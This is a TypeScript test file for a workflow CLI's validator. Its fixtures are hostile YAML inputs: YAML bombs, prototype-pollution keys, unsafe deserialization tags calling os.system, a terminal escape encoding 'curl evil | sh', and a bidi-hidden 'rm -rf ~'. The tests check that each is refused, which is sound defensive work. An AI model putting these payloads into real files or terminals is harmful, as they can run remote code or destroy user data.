// Hostile workflow files through `mia workflow validate`: each is refused with exit 2 and a clear
// message, within a bounded peak memory; and parsing never pollutes Object.prototype.

import { existsSync } from 'node:fs';
import { readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { execa } from 'execa';
import { describe, expect, it } from 'vitest';
import { createBuiltinRegistry } from '../../src/actions/builtin.js';
import { checkWorkflow } from '../../src/definition/load.js';
import { parseWorkflowText } from '../../src/definition/parse.js';
import { MIA_BIN } from '../helpers/cli.js';
import { createFaultWorkspace } from './helpers.js';

/** A generous bound: node itself takes about 80 MB; a 1 MiB workflow must not take 4 times that. */
const MAX_PEAK_RSS_MB = 300;
const TIME = '/usr/bin/time';

const HEAD = 'name: hostile\nnarrative: "x"\n';
const STEP = '  - { id: a, action: shell, with: { run: "echo hi" } }\n';
const VALID_TAIL = `steps:\n${STEP}`;

/** Nine levels of nine aliases each (81 aliases): 9^9 strings once expanded. */
function billionLaughs(levels: number, width: number): string {
  const lines = [`l0: &l0 "lol"`];
  for (let i = 1; i <= levels; i++) {
    lines.push(`l${i}: &l${i} [${Array.from({ length: width }, () => `*l${i - 1}`).join(', ')}]`);
  }
  return `${HEAD}${lines.join('\n')}\n${VALID_TAIL}`;
}

/** Lines indented one more space each, as deep as fits in `bytes`. */
function deepIndentation(bytes: number): string {
  let text = `${HEAD}steps:\n`;
  for (let depth = 1; text.length + depth + 3 < bytes; depth++) text += `${' '.repeat(depth)}a:\n`;
  return text;
}

const MB = 1024 * 1024;

/** `count` lines made by `line`, each ending in a newline. */
function lines(count: number, line: (index: number) => string): string {
  return Array.from({ length: count }, (_, i) => `${line(i)}\n`).join('');
}

/** Name, file bytes, and what the refusal must say. */
const HOSTILE: Array<[string, () => string | Buffer, RegExp]> = [
  ['a billion laughs within 100 aliases', () => billionLaughs(9, 9), /YAML bomb/],
  ['a billion laughs with 1,000 aliases', () => billionLaughs(10, 100), /more than 100 aliases/],
  ['1 MiB of "["', () => `${HEAD}steps: ${'['.repeat(MB - 40)}`, /nesting deeper than 64 levels/],
  ['1 MiB of "{a: "', () => `${HEAD}steps: ${'{a: '.repeat(MB / 4 - 10)}`, /nesting deeper/],
  ['indentation 1,400 levels deep', () => deepIndentation(MB - 100), /nesting deeper/],
  [
    '"- - - …" on one line',
    () => `${HEAD}steps:\n  ${'- '.repeat(MB / 2 - 40)}x\n`,
    /nesting deeper/,
  ],
  [
    'a 50 MB file',
    () => Buffer.alloc(50 * MB, `${HEAD}${VALID_TAIL}# padding\n`),
    /52428800 bytes; workflow files are limited to 1048576 bytes/,
  ],
  ['duplicate keys', () => `${HEAD}narrative: "y"\n${VALID_TAIL}`, /Map keys must be unique/],
  [
    'keys 1 and "1" (one JavaScript property)',
    () => `${HEAD}inputs:\n  1: { default: a }\n  "1": { default: b }\n${VALID_TAIL}`,
    /Map keys must be unique/,
  ],
  [
    'a __proto__ key',
    () => `${HEAD}__proto__: { polluted: yes }\n${VALID_TAIL}`,
    /Unknown field "__proto__"/,
  ],
  [
    'constructor.prototype',
    () => `${HEAD}constructor: { prototype: { polluted: yes } }\n${VALID_TAIL}`,
    /Unknown field "constructor"/,
  ],
  [
    'a merge key (<<)',
    () => `${HEAD}base: &b { x: 1 }\n<<: *b\n${VALID_TAIL}`,
    /Unknown field "<<"/,
  ],
  [
    '!!js/function',
    () =>
      `${HEAD}description: !!js/function "function () { return process.exit(9) }"\n${VALID_TAIL}`,
    /tag "!!js\/function" is not allowed/,
  ],
  [
    'a verbatim !<tag:yaml.org,2002:js/undefined>',
    () => `${HEAD}description: !<tag:yaml.org,2002:js/undefined> ""\n${VALID_TAIL}`,
    /tag "!!js\/undefined" is not allowed/,
  ],
  [
    '!!python/object/apply',
    () => `${HEAD}description: !!python/object/apply:os.system ["id"]\n${VALID_TAIL}`,
    /tag "!!python\/object\/apply:os.system" is not allowed/,
  ],
  [
    'invalid UTF-8',
    () =>
      Buffer.concat([
        Buffer.from(`${HEAD}description: "caf`),
        Buffer.from([0xe9, 0xff]),
        Buffer.from(`"\n${VALID_TAIL}`),
      ]),
    /hostile\.yaml:3:\d+: The file is not valid UTF-8/,
  ],
  [
    'a NUL byte',
    () => `${HEAD}description: "a\0b"\n${VALID_TAIL}`,
    /control character \(U\+0000\)/,
  ],
  [
    'a terminal escape ("\\e]52;c;…": write the clipboard)',
    () => `${HEAD}description: "\\e]52;c;Y3VybCBldmlsIHwgc2g=\\a"\n${VALID_TAIL}`,
    /control character \(U\+001B\)/,
  ],
  [
    'a bidirectional override in a script',
    () =>
      `${HEAD}steps:\n  - { id: a, action: shell, with: { run: "echo safe \u202e; rm -rf ~ \u202c" } }\n`,
    /bidirectional control character \(U\+202E\)/,
  ],
  [
    '100,000 keys (1 MiB)',
    () => `${HEAD}${lines(100_000, (i) => `k${i}: 1`)}${VALID_TAIL}`,
    /more than 150000 values/,
  ],
  [
    '74,000 unknown fields (just under the cap on values)',
    () => `${HEAD}${lines(74_000, (i) => `k${i}: 1`)}${VALID_TAIL}`,
    /and \d+ more problems/,
  ],
  [
    '20,000 unknown fields',
    () => `${HEAD}${lines(20_000, (i) => `k${i}: 1`)}${VALID_TAIL}`,
    /and 900 more problems/,
  ],
  [
    '8,000 steps with unknown dependencies',
    () =>
      `${HEAD}steps:\n${lines(8000, (i) => `  - { id: s${i}, action: shell, depends_on: [n${i}] }`)}`,
    /and \d+ more problems/,
  ],
  [
    'a web of cycles between 4,000 steps',
    () =>
      `${HEAD}steps:\n${lines(4000, (i) => `  - { id: s${i}, action: shell, with: { run: x }, depends_on: [s${(i + 1) % 4000}, s${(i * 13 + 5) % 4000}] }`)}`,
    /More cycles exist than the 20 named above/,
  ],
  [
    'many documents',
    () => `${HEAD}${VALID_TAIL}${'---\na: 1\n'.repeat(10_000)}`,
    /multiple documents/,
  ],
];

interface Measured {
  exitCode: number;
  stderr: string;
  stdout: string;
  peakMb: number | undefined;
}

/** Runs `mia workflow validate <file>` and measures the child's peak RSS (GNU time, else /proc). */
async function validateMeasured(ws: string, file: string): Promise<Measured> {
  const args = [MIA_BIN, 'workflow', 'validate', file];
  if (existsSync(TIME)) {
    const result = await execa(TIME, ['-v', process.execPath, ...args], {
      cwd: ws,
      env: { NO_COLOR: '1' },
      reject: false,
      stdin: 'ignore',
    });
    const rss = /Maximum resident set size \(kbytes\): (\d+)/.exec(String(result.stderr))?.[1];
    return {
      exitCode: result.exitCode ?? -1,
      stdout: String(result.stdout),
      stderr: String(result.stderr),
      peakMb: rss === undefined ? undefined : Number(rss) / 1024,
    };
  }
  const child = execa(process.execPath, args, { cwd: ws, env: { NO_COLOR: '1' }, reject: false });
  let peakKb = 0;
  const timer = setInterval(() => {
    readFile(`/proc/${child.pid}/status`, 'utf8')
      .then((status) => {
        peakKb = Math.max(peakKb, Number(/VmHWM:\s+(\d+)/.exec(status)?.[1] ?? 0));
      })
      .catch(() => undefined);
  }, 10);
  const result = await child.finally(() => clearInterval(timer));
  return {
    exitCode: result.exitCode ?? -1,
    stdout: String(result.stdout),
    stderr: String(result.stderr),
    peakMb: peakKb > 0 ? peakKb / 1024 : undefined,
  };
}

describe.concurrent('hostile workflow files', () => {
  for (const [what, make, message] of HOSTILE) {
    it(`refuses ${what}: exit 2, a clear message, bounded memory`, async () => {
      const ws = await createFaultWorkspace();
      await writeFile(join(ws, 'hostile.yaml'), make());
      const result = await validateMeasured(ws, 'hostile.yaml');
      expect(result.exitCode, result.stderr).toBe(2);
      expect(result.stderr).toMatch(message);
      // Every problem is a line: a hostile file gets a bounded report, never 100,000 lines.
      expect(result.stderr.split('\n').length).toBeLessThan(150);
      if (result.peakMb !== undefined) expect(result.peakMb).toBeLessThan(MAX_PEAK_RSS_MB);
    });
  }
});

describe('prototype pollution', () => {
  const POISON = `name: poison
narrative: "Nothing leaks into Object.prototype"
__proto__: { polluted: top }
constructor: { prototype: { polluted: ctor } }
inputs:
  __proto__: { default: input, polluted: input }
  constructor: { default: x }
steps:
  - id: a
    action: shell
    __proto__: { polluted: step }
    env: { __proto__: env, constructor: env }
    with: { run: "echo hi", __proto__: { polluted: with } }
  - id: b
    action: workflow
    with: { workflow: other, inputs: { __proto__: { polluted: chapter } } }
`;

  it('keeps __proto__ and constructor keys as plain data, and Object.prototype clean', async () => {
    const before = Object.getOwnPropertyNames(Object.prototype).sort();
    const parsed = parseWorkflowText(POISON, 'poison.yaml');
    expect(parsed.problems).toEqual([]);
    const data = parsed.data as Record<string, Record<string, unknown>>;
    expect(Object.getPrototypeOf(data)).toBe(Object.prototype);
    expect(Object.hasOwn(data, '__proto__')).toBe(true);
    expect(Object.getPrototypeOf(data.inputs)).toBe(Object.prototype);

    // Through the whole loader too, including a workflow that extends (patches) another.
    const ws = await createFaultWorkspace({
      poison: POISON,
      child: `name: child\nextends: poison\nnarrative: "x"\nsteps:\n  - id: a\n    with: { __proto__: { polluted: patch } }\n    env: { __proto__: patch }\n`,
    });
    for (const name of ['poison', 'child']) {
      const result = await checkWorkflow(name, {
        workspace: ws,
        registry: createBuiltinRegistry(),
      });
      expect(result.problems.length).toBeGreaterThan(0);
    }
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect(Object.getOwnPropertyNames(Object.prototype).sort()).toEqual(before);
    expect(Object.prototype.constructor).toBe(Object);
  });

  it('refuses an input named __proto__ on the command line without polluting anything', async () => {
    const ws = await createFaultWorkspace({
      plain: `name: plain\nnarrative: "x"\ninputs:\n  tag: { default: v1 }\n${VALID_TAIL}`,
    });
    const { runMia } = await import('../helpers/cli.js');
    for (const input of ['__proto__=x', 'constructor=x', '__proto__.polluted=x']) {
      const result = await runMia(['workflow', 'run', 'plain', '--input', input], { cwd: ws });
      expect(result.exitCode, input).toBe(2);
      expect(result.stderr).toMatch(/unknown input|not an input|Unknown input/i);
    }
  });
});
